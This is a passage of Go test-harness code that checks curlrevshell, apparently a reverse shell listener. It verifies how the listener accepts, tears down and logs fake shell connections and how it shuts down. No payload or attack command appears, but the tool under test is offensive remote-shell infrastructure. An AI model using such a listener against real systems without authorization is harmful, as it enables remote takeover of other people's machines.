			}
			cfg.spell(rng, o, p)
			note(o, k)
		case "ctrl-i":
			if err := ctrlI(); err != nil {
				return nil, err
			}
		case "log":
			k := []string{"flag", "environment", "flag-twice", "flag-over-environment"}[rng.IntN(4)]
			p := filepath.Join(dir, "log", "crs.json")
			other := filepath.Join(dir, "log", "other.json")
			os.MkdirAll(filepath.Dir(p), 0o755)
			switch k {
			case "flag":
				cfg.spell(rng, o, p)
			case "environment":
				cfg.env = append(cfg.env, "CURLREVSHELL_LOG="+p)
			case "flag-twice":
				cfg.spell(rng, o, other)
				cfg.spell(rng, o, p)
			case "flag-over-environment":
				cfg.env = append(cfg.env, "CURLREVSHELL_LOG="+other)
				cfg.spell(rng, o, p)
			}
			cfg.logPath = p
			note(o, k)
		case "prompt":
			v := []string{"c04 $ ", ">>> ", "[rs] ", "rs# "}[rng.IntN(4)]
			cfg.spell(rng, o, v)
			note(o, fmt.Sprintf("%q", v))
		case "tls-certificate-cache":
			k := []string{"explicit", "default", "near-served-directory"}[rng.IntN(3)]
			switch k {
			case "explicit":
				os.MkdirAll(filepath.Join(dir, "cc"), 0o755)
				cfg.spell(rng, o, filepath.Join(dir, "cc", "cert.txtar"))
			case "near-served-directory":
				os.MkdirAll(filepath.Join(dir, "files"), 0o755)
				cfg.spell(rng, o, filepath.Join(dir, "files", "cert.txtar"))
			}
			note(o, k)
		}
	}
	if needBig && !has["ctrl-i"] {
		if err := ctrlI(); err != nil {
			return nil, err
		}
	}
	if c.kind == "oneshell-series" || c.kind == "oneshell-shutdown" {
		cfg.spellBool(rng, "one-shell")
		cfg.oneShell = true
	}
	// flags in any order
	return cfg, nil
}

// rcLog is what the program's JSON log says.
type rcLog struct {
	newConn, disc, discBeforeTerm, term int
	last                                string
}

var rcListenRe = regexp.MustCompile(`Listening on (\S+:\d+)`)

var rcMsgRe = regexp.MustCompile(`"msg":"([^"]*)"`)

func rcReadLog(p string) rcLog {
	var l rcLog
	b, err := os.ReadFile(p)
	if err != nil {
		return l
	}
	for _, line := range strings.Split(string(b), "\n") {
		if len(line) > 4096 {
			line = line[:4096] // "msg" comes second, after "time" and "level"
		}
		m := rcMsgRe.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		l.last = m[1]
		switch m[1] {
		case "New connection":
			l.newConn++
		case "Disconnected":
			l.disc++
			if l.term == 0 {
				l.discBeforeTerm++
			}
		case "Program terminating":
			l.term++
		}
	}
	return l
}

type rcSess struct {
	r    *mon.Run
	i    int
	c    rcCase
	cfg  *rcCfg
	s    *crs.Session
	hist []string
	desc string
	gens int
	bad  bool // a violation was recorded for this case
}

func (x *rcSess) viol(key, what string) {
	x.bad = true
	w := map[string]any{"configuration": x.desc, "arguments": x.cfg.args, "environment": x.cfg.env, "history": x.hist, "terminal_tail": tailStr(x.s.P.Clean(), 2500)}
	if x.cfg.logPath != "" {
		if b, err := os.ReadFile(x.cfg.logPath); err == nil {
			var ls []string
			for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
				ls = append(ls, cut(l, 300))
			}
			if len(ls) > 30 {
				ls = ls[len(ls)-30:]
			}
			w["log_tail"] = ls
		}
	}
	x.r.Violate(realEngine, x.i, key, what, w)
}

func tailStr(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

func refused(err error) bool { return errors.Is(err, syscall.ECONNREFUSED) }

func smallRcvBuf(c *hk.Conn) {
	if tc, ok := c.NetConn().(*net.TCPConn); ok {
		tc.SetReadBuffer(4096)
	}
}

// rcShell is one attached fake shell.
type rcShell struct {
	in    *crs.InStream
	out   *crs.OutStream
	bidir bool
}

func (sh *rcShell) closeAll() {
	if sh.in != nil {
		sh.in.Close()
	}
	if sh.out != nil {
		sh.out.Close()
	}
}

// open attaches a shell's streams.  ok=false: the case is over (violation or
// inconclusive already recorded).
func (x *rcSess) open(what string, bidir bool, attach, id string) (*rcShell, bool) {
	sh := &rcShell{bidir: bidir}
	fail := func(err error) (*rcShell, bool) {
		sh.closeAll()
		if refused(err) || x.s.P.Exited() {
			x.viol("fresh-shell-refused", fmt.Sprintf("%s: the new shell could not even connect (%v; program exited: %v) although the previous shell is completely gone and nobody asked the program to stop listening", what, err, x.s.P.Exited()))
		} else {
			x.r.Inconclusive(fmt.Sprintf("realcfg %d: %s: %v", x.i, what, err))
		}
		return nil, false
	}
	if bidir {
		ios, err := crs.OpenIO(x.s.Addr)
		if err != nil {
			return fail(err)
		}
		sh.in, sh.out = ios.In, ios.Out
		return sh, true
	}
	var err error
	if attach != "out-only" {
		if sh.in, err = crs.OpenIn(x.s.Addr, "/i/"+id); err != nil {
			return fail(err)
		}
	}
	if attach != "in-only" {
		if sh.out, err = crs.OpenOut(x.s.Addr, "/o/"+id); err != nil {
			return fail(err)
		}
	}
	return sh, true
}

// probe: the shell must be accepted and working (ready notice iff fully
// attached, a typed line reaches it, its output is displayed).
func (x *rcSess) probe(what string, sh *rcShell, from int, tag string) bool {
	s := x.s
	if sh.in != nil && sh.out != nil {
		if _, ok := s.Wait(`Shell is ready to go!`, from, crs.Bound); !ok {
			x.viol("fresh-shell-refused", fmt.Sprintf("%s: the new shell was not attached (no ready notice within %s) after the previous one had gone", what, crs.Bound))
			return false
		}
	}
	if sh.in != nil {
		l := "probe-" + tag
		s.Line(l)
		ok := false
		var got string
		var err error
		for k := 0; k < 64; k++ { // lines an earlier burst left queued come first (C02's business)
			if got, err = sh.in.ReadLine(crs.Bound); err != nil || got == l {
				ok = err == nil
				break
			}
		}
		if !ok {
			key := "live-input-not-fed"
			if sh.out == nil {
				key = "fresh-shell-refused"
			}
			x.viol(key, fmt.Sprintf("%s: the line typed for the new shell did not reach it: last read %q, %v", what, got, err))
			return false
		}
	}
	if sh.out != nil {
		tok := "TOK-" + tag + ";"
		sh.out.Send(tok + "\n")
		if _, ok := s.Wait(regexp.QuoteMeta(tok), from, crs.Bound); !ok {
			key := "live-output-not-shown"
			if sh.in == nil {
				key = "fresh-shell-refused"
			}
			x.viol(key, fmt.Sprintf("%s: output of the new shell was not displayed", what))
			return false
		}
	}
	return true
}

var rcEndings = []string{"close-in", "close-out", "end-out", "rst-in", "rst-out", "close-both"}

// generation runs one shell of a series; false = stop the series.
func (x *rcSess) generation(rng *rand.Rand, g int, forceFull bool) bool {
	s, r := x.s, x.r
	bidir := rng.IntN(3) == 0
	attach := []string{"full", "full", "in-only", "out-only"}[rng.IntN(4)]
	if bidir || forceFull {
		attach = "full"
	}
	ending := rcEndings[rng.IntN(len(rcEndings))]
	if attach == "in-only" {
		ending = []string{"close-in", "rst-in"}[rng.IntN(2)]
	}
	if attach == "out-only" {
		ending = []string{"close-out", "end-out", "rst-out"}[rng.IntN(3)]
	}
	load := []string{"idle", "outflood", "inburst"}[rng.IntN(3)]
	desc := fmt.Sprintf("bidir=%v attach=%s load=%s ending=%s", bidir, attach, load, ending)
	x.hist = append(x.hist, desc)
	what := fmt.Sprintf("generation %d (%s)", g, desc)
	id := fmt.Sprintf("rc%d-%d-%s", x.i, g, []string{"a", "Zz_9", "0123456789abcdef0123456789abcdef"}[rng.IntN(3)])
	from := s.P.CleanLen()
	logBefore := rcLog{}
	if x.cfg.logPath != "" {
		logBefore = rcReadLog(x.cfg.logPath)
	}
	sh, ok := x.open(what, bidir, attach, id)
	if !ok {
		return false
	}
	defer sh.closeAll()
	if !x.probe(what, sh, from, fmt.Sprintf("%d-%d", x.i, g)) {
		return false
	}
	switch load {
	case "outflood":
		if sh.out != nil {
			for k := 0; k < 30; k++ {
				sh.out.Send(strings.Repeat("f", 1500))
			}
			sh.out.Send("\n")
		}
	case "inburst":
		if sh.in != nil {
			for k := 0; k < 6; k++ {
				s.Line(fmt.Sprintf("burst-%d", k))
			}
		}
	}
	in, out := sh.in, sh.out
	inOpen, outOpen := in != nil, out != nil && !bidir
	switch ending {
	case "close-in":
		in.Close()
		inOpen = false
	case "close-out":
		out.Close()
		outOpen = false
		inOpen = inOpen && !bidir
	case "end-out":
		out.End()
	case "rst-in":
		rst(in.C)
		inOpen = false
	case "rst-out":
		rst(out.C)
		outOpen = false
		inOpen = inOpen && !bidir
	case "close-both":
		in.Close()
		if !bidir {
			out.Close()
		}
		inOpen, outOpen = false, false
	}
	// without further traffic: the gone notice, the help again, every stream disconnected
	var gl []int
	if x.cfg.oneShell {
		// the program winds down once its one shell has gone (what its terminal still displays of
		// the notices sent meanwhile is not the broker's business); it may need a key press to notice
		for deadline := time.Now().Add(crs.Bound); ; {
			if gl, ok = s.Wait(`Shell is gone :\(`, from, 2*time.Second); ok || s.P.Exited() || !time.Now().Before(deadline) {
				break
			}
			s.Type("\r")
		}
		if !ok && s.P.Exited() {
			return x.oneShellOver(what, from, attach)
		}
	} else if gl, ok = s.Wait(`Shell is gone :\(`, from, 3*time.Second); !ok {
		if x.listenerGone(what) {
			return false
		}
		gl, ok = s.Wait(`Shell is gone :\(`, from, crs.Bound)
	}
	if !ok {
		if s.P.Exited() {
			x.viol("program-ended-with-the-shell", fmt.Sprintf("%s: the program exited when the shell ended, although it was not started with -one-shell", what))
			return false
		}
		x.viol("shell-not-torn-down", fmt.Sprintf("%s: after the client's %s no gone notice appeared within %s (the other direction was not ended)", what, ending, crs.Bound))
		return false
	}
	if !x.cfg.oneShell {
		_, ok := s.Wait(`To get a shell:`, gl[1], 3*time.Second)
		if !ok {
			if x.listenerGone(what) {
				return false
			}
			_, ok = s.Wait(`To get a shell:`, gl[1], crs.Bound)
		}
		if !ok {
			x.viol("callback-help-not-reprinted", fmt.Sprintf("%s: the callback help was not printed again after the shell had gone (the listener does not behave as freshly started)", what))
			return false
		}
	}
	if x.cfg.logPath != "" {
		deadline := time.Now().Add(crs.Bound)
		for {
			l := rcReadLog(x.cfg.logPath)
			want := 2
			if attach != "full" {
				want = 1
			}
			if l.newConn-logBefore.newConn >= want && l.newConn == l.disc {
				r.Count("realcfg_generations_with_log_records_checked", 1)
				break
			}
			if !time.Now().Before(deadline) {
				x.viol("stream-left-attached", fmt.Sprintf("%s: %s after the gone notice the log has %d New connection but %d Disconnected records: a stream is still attached although the shell is gone", what, crs.Bound, l.newConn, l.disc))
				return false
			}
			time.Sleep(5 * time.Millisecond)
		}
	}
	if outOpen {
		how := outputRequestEnded(out.C, crs.Bound)
		if how == "" {
			x.viol("output-request-not-ended-without-further-traffic", fmt.Sprintf("%s: the shell was announced gone after the client's %s, but %s later the server has neither answered the shell's output request nor let go of its connection, while the client sent nothing", what, ending, crs.Bound))
			return false
		}
		r.Count("realcfg_client_saw_request_ended:output", 1)
	}
	if inOpen {
		how := inputRequestEnded(in, crs.Bound)
		if how == "" {
			x.viol("input-request-not-ended-without-further-traffic", fmt.Sprintf("%s: the shell was announced gone after the client's %s, but %s later the response carrying the shell's input has not come to its end, while the client sent nothing", what, ending, crs.Bound))
			return false
		}
		r.Count("realcfg_client_saw_request_ended:input", 1)
	}
	sh.closeAll()
	// other traffic between two shells: a file request (when files are served)
	if x.cfg.files != "" && !x.cfg.oneShell {
		if res, err := hk.Get(s.Addr, "", "files.example", x.cfg.files); err == nil && res.Status == 200 {
			r.Count("realcfg_file_requests_between_shells", 1)
		}
	}
	// this generation's window: one gone notice, the closure notices before it, ready iff fully attached
	to := s.P.CleanLen()
	win := s.P.Clean()[from:to]
	gpos := gl[0] - from
	if n := strings.Count(win, "Shell is gone :("); n != 1 {
		x.viol(fmt.Sprintf("gone-notices-%d", n), fmt.Sprintf("%s: %d gone notices", what, n))
	}
	wantReady := 0
	if attach == "full" {
		wantReady = 1
	}
	if n := strings.Count(win, "Shell is ready to go!"); n != wantReady {
		x.viol(fmt.Sprintf("ready-notices-%d-want-%d", n, wantReady), fmt.Sprintf("%s: %d ready notices, want %d", what, n, wantReady))
	}
	if !x.cfg.oneShell {
		if n := strings.Count(win, "To get a shell:"); n != 1 {
			x.viol(fmt.Sprintf("callback-help-printed-%d-times", n), fmt.Sprintf("%s: callback help printed %d times after one shell", what, n))
		}
	}
	if !bidir && gpos >= 0 && gpos <= len(win) {
		for _, d := range []struct {
			name string
			on   bool
		}{{"Input", attach != "out-only"}, {"Output", attach != "in-only"}} {
			n := strings.Count(win[:gpos], d.name+" connection closed")
			want := 0
			if d.on {
				want = 1
			}
			if n != want {
				x.viol(fmt.Sprintf("closure-notices-%s-%d-want-%d", strings.ToLower(d.name), n, want), fmt.Sprintf("%s: %d '%s connection closed' notices before the gone notice, want %d", what, n, d.name, want))
			}
		}
	}
	x.gens++
	r.Eval(1)
	r.Count("realcfg_generations", 1)
	r.Count("realcfg_ending:"+ending, 1)
	if bidir {
		r.Count("realcfg_generations_bidirectional", 1)
	} else {
		r.Count("realcfg_generations_attach:"+attach, 1)
	}
	if g > 0 {
		r.Count("realcfg_next_shell_accepted_after_an_ended_one", 1)
	}
	r.Distinct("realcfg|" + x.c.tag + "|" + desc)
	return true
}

// listenerGone (a program NOT started with -one-shell whose notices are late):
// is the listening socket still there?  A refused connection is the
// violation "the next shell is not accepted".
func (x *rcSess) listenerGone(what string) bool {
	c, err := net.DialTimeout("tcp", x.s.Addr, 5*time.Second)
	if err == nil {
		c.Close()
		return false
	}
	if !refused(err) && !x.s.P.Exited() {
		return false
	}
	note := ""
	if strings.Contains(x.s.P.Clean(), "Closing listener") {
		note = "; the terminal says 'Closing listener, because -one-shell' although -one-shell was not given"
	}
	x.viol("fresh-shell-refused", fmt.Sprintf("%s: after this shell the listener is gone (%v; program exited: %v): the next shell cannot be accepted, the program does not re-arm%s", what, err, x.s.P.Exited(), note))
	return true
}

// oneShellOver judges a -one-shell program that finished before its terminal
// had displayed the gone notice: no notice twice, and (with a log) every
// stream disconnected before the program terminated.
func (x *rcSess) oneShellOver(what string, from int, attach string) bool {
	win := x.s.P.Clean()[from:]
	for _, n := range []string{"Shell is gone :(", "Input connection closed", "Output connection closed"} {
		if c := strings.Count(win, n); c > 1 {
			x.viol("notice-displayed-twice", fmt.Sprintf("%s: %q displayed %d times", what, n, c))
		}
	}
	if x.cfg.logPath != "" {
		l := rcReadLog(x.cfg.logPath)
		if l.term > 0 && l.discBeforeTerm != l.newConn {
			x.viol("program-terminated-before-every-stream-had-ended", fmt.Sprintf("%s: the log has %d New connection records but only %d Disconnected records before 'Program terminating'", what, l.newConn, l.discBeforeTerm))
		}
	}
	x.gens++
	x.r.Eval(1)
	x.r.Count("realcfg_generations", 1)
	x.r.Count("realcfg_one_shell_programs_gone_before_the_gone_notice_was_displayed", 1)
	return true
}

// shutdown: the operator quits while a shell is attached.
func (x *rcSess) shutdown(rng *rand.Rand, stalled bool) {
	s, r := x.s, x.r
	key := []string{"ctrl-d", "ctrl-c"}[(x.i+int(r.Seed))&1]
	bidir := rng.IntN(3) == 0
	hangup := []string{"close-in", "rst-in", "close-both"}[rng.IntN(3)]
	typedFirst := rng.IntN(2) * (1 + rng.IntN(8))
	hold := 3*time.Second + time.Duration(rng.Int64N(int64(5*time.Second)))
	kind := "idle-attached"
	if stalled {
		kind = "stalled-insert"
	}
	desc := fmt.Sprintf("shutdown=%s key=%s bidir=%v", kind, key, bidir)
	if stalled {
		desc += fmt.Sprintf(" lines-read-first=%d hold=%s hangup=%s", typedFirst, hold.Round(time.Millisecond), hangup)
	}
	x.hist = append(x.hist, desc)
	what := "shutdown (" + desc + ")"
	from := s.P.CleanLen()
	sh, ok := x.open(what, bidir, "full", fmt.Sprintf("rc%d-last", x.i))
	if !ok {
		return
	}
	defer sh.closeAll()
	smallRcvBuf(sh.in.C)
	if !x.probe(what, sh, from, fmt.Sprintf("%d-last", x.i)) {
		return
	}
	if x.cfg.oneShell {
		if _, ok := s.Wait(`Closing listener`, from, crs.Bound); !ok {
			r.Inconclusive(fmt.Sprintf("realcfg %d: -one-shell did not announce closing its listener", x.i))
			return
		}
	}
	if stalled {
		for k := 0; k < typedFirst; k++ {
			l := fmt.Sprintf("typed-%d", k)
			s.Line(l)
			got, err := "", error(nil)
			for j := 0; j < 64; j++ {
				if got, err = sh.in.ReadLine(crs.Bound); err != nil || got == l {
					break
				}
			}
			if err != nil || got != l {
				r.Inconclusive(fmt.Sprintf("realcfg %d: typed line did not arrive: %q %v", x.i, got, err))
				return
			}
		}
		ifrom := s.P.CleanLen()
		s.Type("\t")
		loc, ok := s.Wait(`Inserted (\d+) bytes`, ifrom, crs.Bound)
		if !ok {
			r.Inconclusive(fmt.Sprintf("realcfg %d: Ctrl+I did not insert %s: %q", x.i, x.cfg.ctrlI, tailStr(s.P.Clean()[ifrom:], 300)))
			return
		}
		var n int
		fmt.Sscan(s.P.Clean()[loc[2]:loc[3]], &n)
		if n < 12<<20 {
			r.Inconclusive(fmt.Sprintf("realcfg %d: the insertion has only %d bytes", x.i, n))
			return
		}
		// the client takes the beginning of the insertion (the broker is now inside the one Write
		// that carries all of it, and more is outstanding than any buffer holds), then stops reading
		seen := false
		for k := 0; k < 64 && !seen; k++ {
			l, err := sh.in.ReadLine(crs.Bound)
			if err != nil {
				r.Inconclusive(fmt.Sprintf("realcfg %d: reading the start of the insertion: %v", x.i, err))
				return
			}
			seen = strings.Contains(l, rcBigFirst) || strings.HasPrefix(l, ": 00000")
		}
		if !seen {
			r.Inconclusive(fmt.Sprintf("realcfg %d: the insertion did not start as written", x.i))
			return
		}
		for k := 0; k < 40; k++ {
			if _, err := sh.in.ReadLine(crs.Bound); err != nil {
				r.Inconclusive(fmt.Sprintf("realcfg %d: reading the insertion: %v", x.i, err))
				return
			}
		}
		time.Sleep(300 * time.Millisecond)
	}
	if s.P.Exited() {
		x.viol("program-ended-with-the-shell", what+": the program exited before the operator asked it to")
		return
	}
	if key == "ctrl-d" {
		s.Ctrl('D')
	} else {
		s.Ctrl('C')
	}
	if stalled {
		// the stream cannot end before the client hangs up; the program must wait for it
		time.Sleep(hold)
		if s.P.Exited() {
			st, sig, _ := s.P.WaitExit(time.Second)
			extra := ""
			if x.cfg.logPath != "" {
				l := rcReadLog(x.cfg.logPath)
				extra = fmt.Sprintf("; log: %d New connection, %d Disconnected (%d before 'Program terminating')", l.newConn, l.disc, l.discBeforeTerm)
			}
			x.viol("program-finished-with-a-stream-still-attached", fmt.Sprintf("%s: the operator pressed %s while the shell's input stream was in the middle of writing a Ctrl+I insertion to a client that had stopped reading (and has not hung up); the program exited (status %d %s) without waiting for that stream to end%s", what, key, st, sig, extra))
			return
		}
		r.Count("realcfg_shutdowns_program_waited_for_the_blocked_stream", 1)
		switch hangup {
		case "close-in":
			sh.in.Close()
		case "rst-in":
			rst(sh.in.C)
		case "close-both":
			sh.closeAll()
		}
	}
	st, sig, ok := s.P.WaitExit(crs.Bound)
	if !ok {
		x.viol("shutdown-does-not-finish", fmt.Sprintf("%s: %s after %s (and after the client hung up) the program is still running although every stream has ended", what, crs.Bound, key))
		return
	}
	_ = st
	_ = sig
	sh.closeAll()
	if x.cfg.logPath != "" {
		l := rcReadLog(x.cfg.logPath)
		switch {
		case l.term == 0:
			r.Inconclusive(fmt.Sprintf("realcfg %d: the program exited without a 'Program terminating' record in its log", x.i))
		case l.discBeforeTerm != l.newConn:
			x.viol("program-terminated-before-every-stream-had-ended", fmt.Sprintf("%s: the log has %d New connection records but only %d Disconnected records before 'Program terminating': the program (and the broker in it) finished while a stream was still attached", what, l.newConn, l.discBeforeTerm))
		default:
			r.Count("realcfg_shutdowns_with_log_order_checked", 1)
		}
	}
	r.Eval(1)
	r.Count("realcfg_shutdowns", 1)
	r.Count("realcfg_shutdown:"+kind, 1)
	r.Count("realcfg_shutdown_key:"+key, 1)
	if x.cfg.oneShell {
		r.Count("realcfg_shutdowns_with_one_shell:"+kind, 1)
	}
	r.Distinct("realcfg|" + x.c.tag + "|" + kind + "|" + key)
}

func realCfgCase(r *mon.Run, bin string, i int, c rcCase) {
	rng := r.Rng(realEngine, i)
	dir := filepath.Join(r.Work, fmt.Sprintf("rc-%d", i))
	home := filepath.Join(dir, "home")
	defer os.RemoveAll(dir)
	// two shutdowns in three have a stream that cannot end at once (which needs a Ctrl+I source)
	stalled := (i+int(r.Seed))%3 != 0
	if c.kind == "oneshell-series" || c.kind == "nostart" {
		stalled = false
	}
	cfg, err := rcBuild(r, rng, c, dir, home, stalled)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("realcfg %d: preparing the configuration: %v", i, err))
		return
	}
	desc := c.tag + " [" + strings.Join(cfg.variants, " ") + "]"
	// (not crs.Start: a program that asks the network for its address may neither listen nor exit for long)
	os.MkdirAll(home, 0o755)
	p, err := ptyx.Start(ptyx.Opts{Path: bin, Args: cfg.args, Env: append(crs.Env(home), cfg.env...), Dir: home})
	if err != nil {
		r.Inconclusive(fmt.Sprintf("realcfg %d (%s): %v", i, desc, err))
		return
	}
	s := &crs.Session{P: p, Home: home}
	defer s.Close()
	startBound := crs.Bound
	if c.kind == "nostart" {
		startBound = 6 * time.Second
	}
	loc, ok := p.WaitFor(rcListenRe, 0, startBound)
	if !ok {
		if c.kind == "nostart" {
			r.Count("realcfg_not_started:"+c.tag, 1)
			r.Count("realcfg_cell:"+c.tag, 1)
			if p.Exited() {
				r.Count("realcfg_not_started_and_exited", 1)
			}
			return
		}
		r.Inconclusive(fmt.Sprintf("realcfg %d (%s): no 'Listening on' line; the terminal shows %q", i, desc, tailStr(p.Clean(), 500)))
		return
	}
	s.Addr = p.Clean()[loc[2]:loc[3]]
	defer s.Close()
	x := &rcSess{r: r, i: i, c: c, cfg: cfg, s: s, desc: desc}
	// the start-up help must be out before the first window opens
	if _, ok := s.Wait(`To get a shell:`, 0, crs.Bound); !ok {
		r.Inconclusive(fmt.Sprintf("realcfg %d (%s): no callback help at start-up", i, desc))
		return
	}
	if _, ok := s.Wait(`pinnedpubkey[^\n]*\n`, 0, crs.Bound); !ok {
		r.Inconclusive(fmt.Sprintf("realcfg %d (%s): no one-liner at start-up", i, desc))
		return
	}
	time.Sleep(50 * time.Millisecond)
	switch c.kind {
	case "series", "nostart":
		n := 4 + rng.IntN(r.N(4, 7))
		for g := 0; g < n; g++ {
			if !x.generation(rng, g, g == 0) {
				return
			}
		}
		if x.gens >= 4 {
			r.Count("realcfg_series_of_4_to_10_shells", 1)
		}
		x.shutdown(rng, stalled)
	case "oneshell-series":
		if !x.generation(rng, 0, true) {
			return
		}
		r.Count("realcfg_one_shell_single_shell_series", 1)
		// the program is through once its shell has gone (it may want a key press to notice)
		s.Type("\r")
		if _, _, ok := s.P.WaitExit(2 * time.Second); !ok {
			s.Type("\r")
			_, _, ok = s.P.WaitExit(4 * time.Second)
		}
		if s.P.Exited() {
			r.Count("realcfg_one_shell_program_finished_after_its_shell", 1)
		} else {
			r.Count("realcfg_one_shell_program_still_running_6s_after_its_shell", 1)
		}
	case "oneshell-shutdown":
		x.shutdown(rng, stalled)
	}
	if !x.bad {
		r.Count("realcfg_cell:"+c.tag, 1)
		for _, o := range c.opts {
			r.Count("realcfg_option:"+o, 1)
		}
		if cfg.oneShell {
			r.Count("realcfg_option:one-shell", 1)
		}
		for _, v := range cfg.variants {
			r.Count("realcfg_variant:"+v, 1)
		}
	}
	if i < 3 {
		r.Sample(realEngine, map[string]any{"configuration": desc, "arguments": cfg.args, "environment": cfg.env, "history": x.hist})
	}
}

// realCfgCases runs the whole matrix (next to the other engines: most of a
// case's time is the 3-8 s for which the client of the last shell does not
// hang up).
func realCfgCases(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("realcfg: " + err.Error())
		return
	}
	cases := rcCases(r)
	mon.Parallel(len(cases), 20, func(i int) {
		if !r.Want(realEngine, i) {
			return
		}
		t0 := time.Now()
		realCfgCase(r, bin, i, cases[i])
		if os.Getenv("VERIF_C04_RCLOG") != "" {
			r.Logf("realcfg %d %s %s: %s", i, cases[i].kind, cases[i].tag, time.Since(t0).Round(10*time.Millisecond))
		}
	})
	if r.Replaying() {
		return
	}
	// every cell of the matrix must have been exercised to its end
	rounds := int64(r.N(1, 3))
	seen := map[string]bool{}
	var tags []string
	for _, c := range cases {
		if !seen[c.tag] {
			seen[c.tag] = true
			tags = append(tags, c.tag)
		}
	}
	sort.Strings(tags)
	for _, t := range tags {
		r.Floor("realcfg_cell:"+t, 1)
	}
	for _, o := range rcOpts {
		r.Floor("realcfg_option:"+o, 10*rounds)
	}
	r.Floor("realcfg_option:one-shell", 12*rounds)
	r.Floor("realcfg_generations", 200*rounds)
	r.Floor("realcfg_series_of_4_to_10_shells", 40*rounds)
	r.Floor("realcfg_next_shell_accepted_after_an_ended_one", 150*rounds)
	r.Floor("realcfg_generations_bidirectional", 30*rounds)
	for _, e := range rcEndings {
		r.Floor("realcfg_ending:"+e, 10*rounds)
	}
	r.Floor("realcfg_shutdowns", 50*rounds)
	r.Floor("realcfg_shutdown:stalled-insert", 25*rounds)
	r.Floor("realcfg_shutdown:idle-attached", 10*rounds)
	r.Floor("realcfg_shutdowns_program_waited_for_the_blocked_stream", 25*rounds)
	r.Floor("realcfg_shutdown_key:ctrl-d", 15*rounds)
	r.Floor("realcfg_shutdown_key:ctrl-c", 15*rounds)
	r.Floor("realcfg_shutdowns_with_log_order_checked", 8*rounds)
	r.Floor("realcfg_shutdowns_with_one_shell:stalled-insert", 4*rounds)
	r.Floor("realcfg_one_shell_single_shell_series", 4*rounds)
	r.Floor("realcfg_generations_with_log_records_checked", 30*rounds)
}

package c04

import (
	"fmt"
	"runtime"
	"strings"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// lockwaitCases: the shutdown arrives while the broker is busy with somebody
// else, and new streams arrive while it is still busy.
//
// Every notice the broker sends while admitting, refusing or tearing down a
// stream goes to the operator's terminal, and the terminal may be slow.  The
// harness stalls the terminal behind a small operator channel that is exactly
// full, so that one stream (the "holder") stays inside the broker, in the
// middle of its admission / refusal / tear-down, for as long as the terminal
// does not read.  While it is in there the program shuts down (Do's context is
// cancelled), and after that one to three NEW streams call Connect (the admit
// hook shows that they are inside).  Then the terminal reads again and
// everything runs off in whatever order the broker chooses.  Whatever the
// broker decides for the newcomers — refuse them or attach them — Do may
// return only after every stream that got attached has ended, nothing may be
// attached and no I/O may happen after Do returned.
//
// That the three parties really overlapped is established from the event log
// alone: the terminal holds at most one line and the channel at most its
// capacity, so a notice that is logged as the (capacity+2)th or later line
// after the stall began had not been handed over when the terminal resumed;
// the holder was therefore inside the broker from the log record it wrote
// before that notice until after the "resume" note, and the shutdown note and
// the newcomers' admit events lie in between.
func lockwaitCases(r *mon.Run) {
	type newc struct {
		kind  string // in out io
		key   string // "s" (the shell's ID), another ID, or none
		early bool   // called before the shutdown instead of after it
	}
	type lc struct {
		holder  string // nokey refused connected ready readyio gone
		hdir    string // in out: the holder's direction (gone: the direction that announces the shell is gone)
		pre     string // none other same: which stream of shell "s" is attached beforehand
		hkey    string
		och     int
		room    int // lines of the holder that still fit before the one that blocks
		newc    []newc
		settle1 time.Duration // after the shutdown, before the newcomers
		settle2 time.Duration // after the newcomers are inside, before the terminal resumes
		settle3 time.Duration // with a stream attached: time a wrong Do gets to return
	}
	n := r.N(48, 600)
	var nHeld, nBare, nLate, nAtt atomic.Int64
	mon.Parallel(n, runtime.NumCPU(), func(i int) {
		if !r.Want("lockwait", i) {
			return
		}
		rng := r.Rng("lockwait", i)
		c := lc{
			hdir:    []string{"in", "out"}[rng.IntN(2)],
			pre:     "none",
			hkey:    "s",
			och:     []int{0, 1, 2, 5}[rng.IntN(4)],
			settle1: time.Duration(2+rng.IntN(30)) * time.Millisecond,
			settle2: time.Duration(2+rng.IntN(30)) * time.Millisecond,
			settle3: time.Duration(40+rng.IntN(120)) * time.Millisecond,
		}
		switch i % 8 {
		case 0, 3: // a refusal for want of an ID, nothing attached
			c.holder, c.hkey = "nokey", ""
		case 1: // the last direction of a fully attached shell announces that the shell is gone
			c.holder, c.pre = "gone", "other"
		case 4: // the only direction of a half attached shell does
			c.holder = "gone"
		case 7:
			c.holder, c.pre = "gone", []string{"none", "other"}[rng.IntN(2)]
		case 2: // the "connected" notice of a first or second direction
			c.holder, c.pre = "connected", []string{"none", "other"}[rng.IntN(2)]
		case 5: // the "ready" notice
			if rng.IntN(2) == 0 {
				c.holder, c.pre, c.room = "ready", "other", 1
			} else {
				c.holder = "readyio"
			}
		case 6: // a refusal because of what is attached
			c.holder = "refused"
			switch rng.IntN(3) {
			case 0:
				c.pre, c.hkey = "other", "t" // wrong ID
			case 1:
				c.pre, c.hkey = "same", "s" // direction already attached
			case 2:
				c.pre, c.hkey = "same", "" // no ID, with something attached
			}
		}
		nn := 1 + rng.IntN(3)
		for k := 0; k < nn; k++ {
			nc := newc{kind: []string{"in", "out", "out", "in", "io"}[rng.IntN(5)], key: []string{"s", "s", "fresh", ""}[rng.IntN(4)]}
			if nc.key == "fresh" {
				nc.key = fmt.Sprintf("n-%d-%d", i, k)
			}
			nc.early = rng.IntN(20) == 0
			c.newc = append(c.newc, nc)
		}
		w, err := bk.NewWorld(c.och, 64)
		if err != nil {
			r.Inconclusive(err.Error())
			return
		}
		defer w.Close()
		viol := func(key, what string) {
			r.Violate("lockwait", i, key, what, map[string]any{"case": fmt.Sprintf("%+v", c), "log_tail": w.Log.Tail(60)})
		}
		inconc := func(what string) {
			r.Inconclusive(fmt.Sprintf("lockwait %d (%+v): %s; log tail: %v", i, c, what, w.Log.Tail(12)))
		}
		waitEv := func(from int, pred func(bk.Event) bool) (bk.Event, bool) { return w.Log.Wait(from, bk.Bound, pred) }
		dirOf := map[string]string{"in": "input", "out": "output"}
		other := map[string]string{"in": "out", "out": "in"}
